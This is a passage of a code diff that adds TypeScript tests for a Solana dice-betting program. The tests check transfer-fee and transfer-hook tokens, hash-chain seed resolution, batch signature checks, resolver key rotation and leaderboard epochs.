+        createInitializeTransferFeeConfigInstruction(
+          mint,
+          house.publicKey,
+          house.publicKey,
+          feeBasisPoints,
+          BigInt(1_000_000_000),
+          TOKEN_2022_PROGRAM_ID
+        ),
+        createInitializeMintInstruction(mint, 6, house.publicKey, null, TOKEN_2022_PROGRAM_ID)
+      );
+      await sendAndConfirmTransaction(connection, tx, [house.payer, mintKeypair]);
+
+      for (const owner of [house.publicKey, player.publicKey]) {
+        const ata = await getOrCreateAssociatedTokenAccount(
+          connection,
+          house.payer,
+          mint,
+          owner,
+          false,
+          undefined,
+          undefined,
+          TOKEN_2022_PROGRAM_ID
+        );
+        await mintTo(
+          connection,
+          house.payer,
+          mint,
+          ata.address,
+          house.payer,
+          1_000_000_000,
+          [],
+          undefined,
+          TOKEN_2022_PROGRAM_ID
+        );
+      }
+
+      vaultAta = getAssociatedTokenAddressSync(mint, vaultPda, true, TOKEN_2022_PROGRAM_ID);
+
+      await program.methods
+        .initTokenVault(vaultId, new BN(1_000_000), new BN(50_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .rpc();
+
+      await program.methods
+        .depositToken(vaultId, new BN(500_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .rpc();
+    });
+
+    it("records the wager net of the transfer fee", async () => {
+      const seed = new BN(6000);
+      const betAmount = new BN(10_000_000);
+      const [betPda] = deriveBetPda(seed);
+
+      const vaultBefore = await getAccount(connection, vaultAta, undefined, TOKEN_2022_PROGRAM_ID);
+
+      const tx = await program.methods
+        .placeTokenBet(vaultId, seed, 5000, { over: {} }, betAmount, false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .signers([player])
+        .rpc();
+
+      console.log("Place fee-bearing token bet tx:", tx);
+
+      const fee = (betAmount.toNumber() * feeBasisPoints) / 10_000;
+      const betAccount = await program.account.bet.fetch(betPda);
+      assert.equal(
+        betAccount.amount.toNumber(),
+        betAmount.toNumber() - fee,
+        "Bet amount should exclude the transfer fee"
+      );
+
+      const vaultAfter = await getAccount(connection, vaultAta, undefined, TOKEN_2022_PROGRAM_ID);
+      assert.equal(
+        Number(vaultAfter.amount - vaultBefore.amount),
+        betAccount.amount.toNumber(),
+        "Vault should receive the net wager"
+      );
+
+      assert.equal(
+        betAccount.locked.toNumber() - transferFee(betAccount.locked.toNumber()),
+        betAccount.payout.toNumber(),
+        "Reserve should cover the payout plus the fee on paying it out"
+      );
+      const tokenVault = await program.account.tokenVault.fetch(tokenVaultPda);
+      assert.ok(tokenVault.locked.gte(betAccount.locked), "Token vault should lock the grossed-up payout");
+    });
+
+    it("pays the player the advertised payout after the fee", async () => {
+      const playerAta = getAssociatedTokenAddressSync(mint, player.publicKey, false, TOKEN_2022_PROGRAM_ID);
+
+      // Roll-over 200 wins 98% of the time, so retry the rare loss with a fresh bet
+      for (let seed = 6001; seed < 6010; seed++) {
+        const { betPda, bet } = await placeTokenBet(new BN(seed), 200);
+        const digest = betDigest(bet);
+        const lockedBefore = (await program.account.tokenVault.fetch(tokenVaultPda)).locked;
+        const playerBefore = await tokenBalance(playerAta);
+        const vaultBefore = await tokenBalance(vaultAta);
+
+        const tx = await program.methods
+          .resolveTokenBet(vaultId, signEd25519(house.payer, digest))
+          .accountsPartial({
+            resolver: house.publicKey,
+            house: house.publicKey,
+            player: player.publicKey,
+            mint,
+            bet: betPda,
+            instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+            slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+            tokenProgram: TOKEN_2022_PROGRAM_ID,
+          })
+          .preInstructions([ed25519Instruction(house.payer, [digest])])
+          .rpc();
+
+        const tokenVault = await program.account.tokenVault.fetch(tokenVaultPda);
+        assert.ok(tokenVault.locked.eq(lockedBefore.sub(bet.locked)), "Resolution should release the reserve");
+
+        const recentResults = await program.account.recentResults.fetch(recentResultsPda);
+        const latest = recentResults.results[(recentResults.head.toNumber() - 1) % recentResults.results.length];
+        assert.ok(latest.mint.equals(mint), "Recent results should record the token bet");
+
+        const resolved = (await getCpiEvents(tx)).find((event) => event.name === "betResolved");
+        if (!resolved.data.won) continue;
+
+        assert.equal(
+          (await tokenBalance(playerAta)) - playerBefore,
+          bet.payout.toNumber(),
+          "Player should net the advertised payout"
+        );
+        assert.equal(
+          vaultBefore - (await tokenBalance(vaultAta)),
+          bet.locked.toNumber(),
+          "Vault should send the reserved amount"
+        );
+        return;
+      }
+      assert.fail("Every roll-over 200 bet lost");
+    });
+
+    it("refunds what the vault received for the wager", async () => {
+      const playerAta = getAssociatedTokenAddressSync(mint, player.publicKey, false, TOKEN_2022_PROGRAM_ID);
+      const { betPda, bet } = await placeTokenBet(new BN(6100), 5000);
+      const lockedBefore = (await program.account.tokenVault.fetch(tokenVaultPda)).locked;
+      const playerBefore = await tokenBalance(playerAta);
+      const vaultBefore = await tokenBalance(vaultAta);
+
+      await refundAfterTimeout(bet.slot, () =>
+        program.methods
+          .refundTokenBet(vaultId)
+          .accountsPartial({
+            player: player.publicKey,
+            house: house.publicKey,
+            mint,
+            bet: betPda,
+            tokenProgram: TOKEN_2022_PROGRAM_ID,
+          })
+          .signers([player])
+          .rpc()
+      );
+
+      assert.isNull(await connection.getAccountInfo(betPda), "Bet should be closed");
+      assert.equal(
+        vaultBefore - (await tokenBalance(vaultAta)),
+        bet.amount.toNumber(),
+        "Vault should return exactly the wager it received"
+      );
+      assert.equal(
+        (await tokenBalance(playerAta)) - playerBefore,
+        bet.amount.toNumber() - transferFee(bet.amount.toNumber()),
+        "Player should get the wager back less the fee on returning it"
+      );
+      const tokenVault = await program.account.tokenVault.fetch(tokenVaultPda);
+      assert.ok(tokenVault.locked.eq(lockedBefore.sub(bet.locked)), "Refund should release the reserve");
+    });
+  });
+
+  describe("token-2022 transfer-hook bets", () => {
+    const mintKeypair = Keypair.generate();
+    const mint = mintKeypair.publicKey;
+
+    const [extraAccountMetaListPda] = PublicKey.findProgramAddressSync(
+      [Buffer.from("extra-account-metas"), mint.toBuffer()],
+      hookProgram.programId
+    );
+    const [counterPda] = PublicKey.findProgramAddressSync(
+      [Buffer.from("counter"), mint.toBuffer()],
+      hookProgram.programId
+    );
+
+    // Extra accounts Token-2022 needs to invoke the hook, forwarded as remaining accounts
+    const hookAccounts = [
+      { pubkey: extraAccountMetaListPda, isSigner: false, isWritable: false },
+      { pubkey: counterPda, isSigner: false, isWritable: true },
+      { pubkey: hookProgram.programId, isSigner: false, isWritable: false },
+    ];
+
+    const transfers = async () => (await hookProgram.account.counter.fetch(counterPda)).transfers.toNumber();
+
+    before(async () => {
+      const mintLen = getMintLen([ExtensionType.TransferHook]);
+      const lamports = await connection.getMinimumBalanceForRentExemption(mintLen);
+
+      const tx = new Transaction().add(
+        SystemProgram.createAccount({
+          fromPubkey: house.publicKey,
+          newAccountPubkey: mint,
+          space: mintLen,
+          lamports,
+          programId: TOKEN_2022_PROGRAM_ID,
+        }),
+        createInitializeTransferHookInstruction(mint, house.publicKey, hookProgram.programId, TOKEN_2022_PROGRAM_ID),
+        createInitializeMintInstruction(mint, 6, house.publicKey, null, TOKEN_2022_PROGRAM_ID)
+      );
+      await sendAndConfirmTransaction(connection, tx, [house.payer, mintKeypair]);
+
+      await hookProgram.methods
+        .initializeExtraAccountMetaList()
+        .accounts({
+          payer: house.publicKey,
+          mint,
+        })
+        .rpc();
+
+      for (const owner of [house.publicKey, player.publicKey]) {
+        const ata = await getOrCreateAssociatedTokenAccount(
+          connection,
+          house.payer,
+          mint,
+          owner,
+          false,
+          undefined,
+          undefined,
+          TOKEN_2022_PROGRAM_ID
+        );
+        await mintTo(
+          connection,
+          house.payer,
+          mint,
+          ata.address,
+          house.payer,
+          1_000_000_000,
+          [],
+          undefined,
+          TOKEN_2022_PROGRAM_ID
+        );
+      }
+
+      await program.methods
+        .initTokenVault(vaultId, new BN(1_000_000), new BN(50_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .rpc();
+
+      await program.methods
+        .depositToken(vaultId, new BN(500_000_000))
+        .accounts({
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .remainingAccounts(hookAccounts)
+        .rpc();
+    });
+
+    it("forwards the hook's extra accounts on every transfer", async () => {
+      assert.equal(await transfers(), 1, "Deposit should run the hook");
+
+      const seed = new BN(6200);
+      await program.methods
+        .placeTokenBet(vaultId, seed, 5000, { over: {} }, new BN(10_000_000), false, clientSeed, { signature: {} })
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+          mint,
+          tokenProgram: TOKEN_2022_PROGRAM_ID,
+        })
+        .remainingAccounts(hookAccounts)
+        .signers([player])
+        .rpc();
+      assert.equal(await transfers(), 2, "Placing a bet should run the hook");
+
+      // The refund is signed by the vault PDA rather than the player
+      const [betPda] = deriveBetPda(seed);
+      const bet = await program.account.bet.fetch(betPda);
+      await refundAfterTimeout(bet.slot, () =>
+        program.methods
+          .refundTokenBet(vaultId)
+          .accountsPartial({
+            player: player.publicKey,
+            house: house.publicKey,
+            mint,
+            bet: betPda,
+            tokenProgram: TOKEN_2022_PROGRAM_ID,
+          })
+          .remainingAccounts(hookAccounts)
+          .signers([player])
+          .rpc()
+      );
+      assert.equal(await transfers(), 3, "Refunding a bet should run the hook");
+    });
+  });
+
+  describe("hash chain resolution", () => {
+    // chain[0] is the committed tip and chain[i] the seed for the i-th hash-chain bet
+    const chain = [Keypair.generate().secretKey.subarray(0, 32) as Buffer];
+    for (let i = 0; i < 8; i++) chain.unshift(sha256(Buffer.from(chain[0])));
+
+    const placeBet = async (seed: BN, mode: any = { hashChain: {} }) => {
+      await program.methods
+        .placeBet(vaultId, seed, 5000, { over: {} }, new BN(0.01 * LAMPORTS_PER_SOL), true, clientSeed, mode)
+        .accounts({
+          player: player.publicKey,
+          house: house.publicKey,
+        })
+        .signers([player])
+        .rpc();
+      return deriveBetPda(seed)[0];
+    };
+
+    // Hash-chain rolls mix in the target slot's hash, so resolution waits for it to land
+    const waitForTargetSlot = async (betPda: PublicKey) => {
+      const bet = await program.account.bet.fetch(betPda);
+      while ((await connection.getSlot()) <= bet.targetSlot.toNumber()) {
+        await new Promise((resolve) => setTimeout(resolve, 400));
+      }
+    };
+
+    it("commits the hash chain tip", async () => {
+      await program.methods
+        .commitHashChain(vaultId, [...chain[0]])
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      const vaultState = await program.account.vaultState.fetch(vaultStatePda);
+      assert.deepEqual(Buffer.from(vaultState.chainTip), chain[0], "Tip should be stored");
+    });
+
+    it("resolves a bet with the seed at its chain position", async () => {
+      const betPda = await placeBet(new BN(7000));
+      const bet = await program.account.bet.fetch(betPda);
+      assert.ok(bet.chainPosition.eqn(1), "First hash-chain bet should take the first seed");
+      await waitForTargetSlot(betPda);
+
+      const statsBefore = await program.account.playerStats.fetch(playerStatsPda);
+      const houseStatsBefore = await program.account.houseStats.fetch(houseStatsPda);
+
+      // A third-party keeper submits the resolution and collects the reward
+      const keeper = Keypair.generate();
+      await airdrop(keeper.publicKey, LAMPORTS_PER_SOL);
+      const keeperBalanceBefore = await getBalance(keeper.publicKey);
+      const lockedBefore = (await program.account.vaultState.fetch(vaultStatePda)).locked;
+
+      const tx = await program.methods
+        .resolveBetHashChain(vaultId, [...chain[1]])
+        .accountsPartial({
+          resolver: keeper.publicKey,
+          house: house.publicKey,
+          player: player.publicKey,
+          bet: betPda,
+          instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+          slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+        })
+        .signers([keeper])
+        .rpc();
+
+      console.log("Hash chain resolve tx:", tx);
+
+      assert.equal(
+        await getBalance(keeper.publicKey),
+        keeperBalanceBefore + configParams.resolverReward.toNumber(),
+        "Keeper should receive the resolver reward"
+      );
+
+      const events = await getCpiEvents(tx);
+      const resolved = events.find((event) => event.name === "betResolved");
+      assert.ok(resolved, "BetResolved should be emitted");
+      assert.ok(resolved.data.seed.eq(new BN(7000)), "Event should carry the bet seed");
+      assert.equal(
+        resolved.data.payout.isZero(),
+        !resolved.data.won,
+        "Only winning bets should report a payout"
+      );
+
+      assert.isNull(await connection.getAccountInfo(betPda), "Bet should be closed");
+      const vaultState = await program.account.vaultState.fetch(vaultStatePda);
+      assert.deepEqual(Buffer.from(vaultState.chainTip), chain[1], "Tip should advance");
+      assert.ok(
+        vaultState.locked.eq(lockedBefore.sub(bet.payout)),
+        "Resolution should release the reserved payout"
+      );
+
+      const statsAfter = await program.account.playerStats.fetch(playerStatsPda);
+      assert.equal(
+        statsAfter.betsWon.add(statsAfter.betsLost).toNumber(),
+        statsBefore.betsWon.add(statsBefore.betsLost).toNumber() + 1,
+        "Stats should record the outcome"
+      );
+
+      const houseStatsAfter = await program.account.houseStats.fetch(houseStatsPda);
+      assert.equal(
+        houseStatsAfter.betCount.toNumber(),
+        houseStatsBefore.betCount.toNumber() + 1,
+        "House stats should count the bet"
+      );
+      assert.ok(
+        houseStatsAfter.pnl.sub(houseStatsBefore.pnl).eq(resolved.data.amount.sub(resolved.data.payout)),
+        "House PnL should move by the wager minus the payout"
+      );
+
+      const leaderboard = await program.account.leaderboard.fetch(leaderboardPda);
+      assert.ok(
+        leaderboard.byVolume.some((entry) => entry.player.equals(player.publicKey)),
+        "Player should appear on the volume leaderboard"
+      );
+
+      const recentResults = await program.account.recentResults.fetch(recentResultsPda);
+      const latest = recentResults.results[(recentResults.head.toNumber() - 1) % recentResults.results.length];
+      assert.ok(latest.player.equals(player.publicKey), "Latest result should be this bet");
+      assert.ok(new BN(latest.seed, "le").eq(new BN(7000)), "Latest result should carry the seed");
+      assert.equal(latest.roll, resolved.data.roll, "Latest result should record the roll");
+      assert.equal(latest.betType, 0, "Latest result should record a roll-over bet");
+    });
+
+    it("rejects the seed of another chain position", async () => {
+      // Takes position 2, so neither the revealed seed 1 nor seed 3 resolves it
+      const betPda = await placeBet(new BN(7001));
+
+      for (const preimage of [chain[1], chain[3]]) {
+        try {
+          await program.methods
+            .resolveBetHashChain(vaultId, [...preimage])
+            .accountsPartial({
+              resolver: house.publicKey,
+              house: house.publicKey,
+              player: player.publicKey,
+              bet: betPda,
+              instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+              slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+            })
+            .rpc();
+
+          assert.fail("Should have thrown HashChainPreimage error");
+        } catch (err: any) {
+          console.log("Wrong seed correctly rejected:", err.message?.slice(0, 100));
+          expect(err.toString()).to.include("HashChainPreimage");
+        }
+      }
+    });
+
+    it("refuses to replace the chain while its bets are open", async () => {
+      try {
+        await program.methods
+          .commitHashChain(vaultId, [...sha256(Buffer.from("another chain"))])
+          .accounts({
+            house: house.publicKey,
+          })
+          .rpc();
+
+        assert.fail("Should have thrown HashChainBetsOpen error");
+      } catch (err: any) {
+        console.log("Recommit correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("HashChainBetsOpen");
+      }
+    });
+
+    it("rejects resolving a bet placed for another mode", async () => {
+      const betPda = await placeBet(new BN(7003), { vrf: {} });
+
+      try {
+        await program.methods
+          .resolveBetHashChain(vaultId, [...chain[1]])
+          .accountsPartial({
+            resolver: house.publicKey,
+            house: house.publicKey,
+            player: player.publicKey,
+            bet: betPda,
+            instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+            slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+          })
+          .rpc();
+
+        assert.fail("Should have thrown ResolutionModeMismatch error");
+      } catch (err: any) {
+        console.log("Mode mismatch correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("ResolutionModeMismatch");
+      }
+    });
+
+    it("rejects a hash-chain bet without a target slot", async () => {
+      try {
+        await program.methods
+          .placeBet(vaultId, new BN(7004), 5000, { over: {} }, new BN(0.01 * LAMPORTS_PER_SOL), false, clientSeed, { hashChain: {} })
+          .accounts({
+            player: player.publicKey,
+            house: house.publicKey,
+          })
+          .signers([player])
+          .rpc();
+
+        assert.fail("Should have thrown SlotHashRequired error");
+      } catch (err: any) {
+        console.log("Bet without a target slot correctly rejected:", err.message?.slice(0, 100));
+        expect(err.toString()).to.include("SlotHashRequired");
+      }
+    });
+
+    it("mixes a future slot hash into the roll", async () => {
+      const slot = await connection.getSlot();
+      const betPda = await placeBet(new BN(7002));
+
+      const bet = await program.account.bet.fetch(betPda);
+      assert.isAbove(bet.targetSlot.toNumber(), slot, "Target slot should be in the future");
+      await waitForTargetSlot(betPda);
+
+      await program.methods
+        .resolveBetHashChain(vaultId, [...chain[3]])
+        .accountsPartial({
+          resolver: house.publicKey,
+          house: house.publicKey,
+          player: player.publicKey,
+          bet: betPda,
+          instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+          slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+        })
+        .rpc();
+
+      assert.isNull(await connection.getAccountInfo(betPda), "Bet should be closed");
+    });
+
+    it("resolves an earlier bet once a later seed is revealed", async () => {
+      // Revealing seed 3 made seed 2 public, so the skipped bet can't be stranded
+      const [betPda] = deriveBetPda(new BN(7001));
+      await program.methods
+        .resolveBetHashChain(vaultId, [...chain[2]])
+        .accountsPartial({
+          resolver: player.publicKey,
+          house: house.publicKey,
+          player: player.publicKey,
+          bet: betPda,
+          instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+          slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+        })
+        .signers([player])
+        .rpc();
+
+      assert.isNull(await connection.getAccountInfo(betPda), "Bet should be closed");
+      const vaultState = await program.account.vaultState.fetch(vaultStatePda);
+      assert.deepEqual(Buffer.from(vaultState.chainTip), chain[3], "Tip should stay at the latest seed");
+    });
+  });
+
+  describe("batch resolution", () => {
+    // (bet, player, player stats) triple for each bet, in the order they were signed
+    const batchAccounts = (betPdas: PublicKey[]) =>
+      betPdas.flatMap((betPda) => [
+        { pubkey: betPda, isSigner: false, isWritable: true },
+        { pubkey: player.publicKey, isSigner: false, isWritable: true },
+        { pubkey: playerStatsPda, isSigner: false, isWritable: true },
+      ]);
+
+    const resolveBets = (betPdas: PublicKey[], preInstructions: TransactionInstruction[]) =>
+      program.methods
+        .resolveBets(vaultId)
+        .accountsPartial({
+          resolver: house.publicKey,
+          house: house.publicKey,
+          instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+          slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+        })
+        .remainingAccounts(batchAccounts(betPdas))
+        .preInstructions(preInstructions)
+        .rpc();
+
+    it("resolves several bets from one player against one Ed25519 instruction", async () => {
+      const first = await placeSignatureBet(new BN(8000));
+      const second = await placeSignatureBet(new BN(8001));
+      const statsBefore = await program.account.playerStats.fetch(playerStatsPda);
+
+      const tx = await resolveBets(
+        [first.betPda, second.betPda],
+        [ed25519Instruction(house.payer, [first.digest, second.digest])]
+      );
+
+      const events = (await getCpiEvents(tx)).filter((event) => event.name === "betResolved");
+      assert.deepEqual(
+        events.map((event) => event.data.seed.toNumber()),
+        [8000, 8001],
+        "Each bet should be resolved in order"
+      );
+      assert.isNull(await connection.getAccountInfo(first.betPda), "First bet should be closed");
+      assert.isNull(await connection.getAccountInfo(second.betPda), "Second bet should be closed");
+
+      const statsAfter = await program.account.playerStats.fetch(playerStatsPda);
+      assert.equal(
+        statsAfter.betsWon.add(statsAfter.betsLost).toNumber(),
+        statsBefore.betsWon.add(statsBefore.betsLost).toNumber() + 2,
+        "Stats should record both outcomes"
+      );
+    });
+
+    it("skips an unrelated Ed25519 instruction with the same signature count", async () => {
+      const bet = await placeSignatureBet(new BN(8002));
+
+      await resolveBets(
+        [bet.betPda],
+        [
+          ed25519Instruction(Keypair.generate(), [Buffer.from("unrelated")]),
+          ed25519Instruction(house.payer, [bet.digest]),
+        ]
+      );
+
+      assert.isNull(await connection.getAccountInfo(bet.betPda), "Bet should be closed");
+    });
+
+    it("rejects a bet listed twice", async () => {
+      const bet = await placeSignatureBet(new BN(8003));
+
+      try {
+        await resolveBets(
+          [bet.betPda, bet.betPda],
+          [ed25519Instruction(house.payer, [bet.digest, bet.digest])]
+        );
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("BatchAccounts");
+      }
+    });
+
+    it("rejects signatures that don't match the bets", async () => {
+      const first = await placeSignatureBet(new BN(8004));
+      const second = await placeSignatureBet(new BN(8005));
+
+      // Signed in the other order
+      try {
+        await resolveBets(
+          [first.betPda, second.betPda],
+          [ed25519Instruction(house.payer, [second.digest, first.digest])]
+        );
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("Ed25519Message");
+      }
+
+      // Covering only one of the bets
+      try {
+        await resolveBets([first.betPda, second.betPda], [ed25519Instruction(house.payer, [first.digest])]);
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("Ed25519Signature");
+      }
+    });
+  });
+
+  describe("resolver rotation", () => {
+    const resolver = Keypair.generate();
+    const nextResolver = Keypair.generate();
+
+    const rotateResolver = (key: PublicKey, graceSlots: number) =>
+      program.methods
+        .rotateResolver(vaultId, key, new BN(graceSlots))
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+    const resolveBet = (bet: { betPda: PublicKey; digest: Buffer }, signer: Keypair) =>
+      program.methods
+        .resolveBet(vaultId, signEd25519(signer, bet.digest))
+        .accountsPartial({
+          resolver: house.publicKey,
+          house: house.publicKey,
+          player: player.publicKey,
+          bet: bet.betPda,
+          instructionSysvar: SYSVAR_INSTRUCTIONS_PUBKEY,
+          slotHashes: SYSVAR_SLOT_HASHES_PUBKEY,
+        })
+        .preInstructions([ed25519Instruction(signer, [bet.digest])])
+        .rpc();
+
+    before(async () => {
+      await rotateResolver(resolver.publicKey, 1000);
+    });
+
+    after(async () => {
+      // Hand resolution back to the house key for the remaining tests
+      await rotateResolver(house.publicKey, 0);
+    });
+
+    it("resolves a bet signed by the rotated key", async () => {
+      const bet = await placeSignatureBet(new BN(8100));
+      await resolveBet(bet, resolver);
+      assert.isNull(await connection.getAccountInfo(bet.betPda), "Bet should be closed");
+    });
+
+    it("binds each bet to the resolver active at placement", async () => {
+      const bet = await placeSignatureBet(new BN(8104));
+      const betAccount = await program.account.bet.fetch(bet.betPda);
+      assert.ok(betAccount.resolver.equals(resolver.publicKey), "Bet should record the active resolver");
+      await resolveBet(bet, resolver);
+    });
+
+    it("still accepts the outgoing key during the grace window", async () => {
+      const bet = await placeSignatureBet(new BN(8101));
+      await resolveBet(bet, house.payer);
+      assert.isNull(await connection.getAccountInfo(bet.betPda), "Bet should be closed");
+    });
+
+    it("rejects the outgoing key once the grace window ends", async () => {
+      const bet = await placeSignatureBet(new BN(8102));
+      await rotateResolver(nextResolver.publicKey, 2);
+
+      const config = await program.account.houseConfig.fetch(configPda);
+      while ((await connection.getSlot()) < config.previousResolverExpiry.toNumber()) {
+        await new Promise((resolve) => setTimeout(resolve, 400));
+      }
+
+      try {
+        await resolveBet(bet, resolver);
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("Ed25519Pubkey");
+      }
+
+      await resolveBet(bet, nextResolver);
+      assert.isNull(await connection.getAccountInfo(bet.betPda), "Bet should be closed");
+    });
+
+    it("drops the earlier key at once when rotating again", async () => {
+      // The house key's grace window had 1000 slots left, but only one outgoing key is kept
+      const bet = await placeSignatureBet(new BN(8103));
+      try {
+        await resolveBet(bet, house.payer);
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("Ed25519Pubkey");
+      }
+
+      await resolveBet(bet, nextResolver);
+      assert.isNull(await connection.getAccountInfo(bet.betPda), "Bet should be closed");
+    });
+  });
+
+  describe("leaderboard", () => {
+    it("refuses to roll over before the epoch ends", async () => {
+      try {
+        await program.methods
+          .rolloverLeaderboard(vaultId, new BN(0))
+          .accountsPartial({ payer: player.publicKey, house: house.publicKey })
+          .signers([player])
+          .rpc();
+        assert.fail("Should have thrown");
+      } catch (err) {
+        expect(err.toString()).to.include("LeaderboardEpochRunning");
+      }
+    });
+
+    it("archives the epoch and starts a new one", async () => {
+      await program.methods
+        .updateConfig(vaultId, { ...configParams, leaderboardEpoch: new BN(0) })
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+
+      await program.methods
+        .rolloverLeaderboard(vaultId, new BN(0))
+        .accountsPartial({ payer: player.publicKey, house: house.publicKey })
+        .signers([player])
+        .rpc();
+
+      const [archivePda] = PublicKey.findProgramAddressSync(
+        [Buffer.from("leaderboard"), vaultPda.toBuffer(), new BN(0).toArrayLike(Buffer, "le", 8)],
+        program.programId
+      );
+      const archive = await program.account.leaderboard.fetch(archivePda);
+      assert.ok(archive.endSlot.gtn(0), "Archive should record when the epoch ended");
+      assert.ok(
+        archive.byVolume.some((entry) => entry.player.equals(player.publicKey)),
+        "Archive should keep the epoch's rankings"
+      );
+
+      const leaderboard = await program.account.leaderboard.fetch(leaderboardPda);
+      assert.ok(leaderboard.epoch.eqn(1), "Epoch should advance");
+      assert.ok(
+        leaderboard.byVolume.every((entry) => entry.player.equals(PublicKey.default)),
+        "New epoch should start empty"
+      );
+
+      await program.methods
+        .updateConfig(vaultId, configParams)
+        .accounts({
+          house: house.publicKey,
+        })
+        .rpc();
+    });
   });
 });
 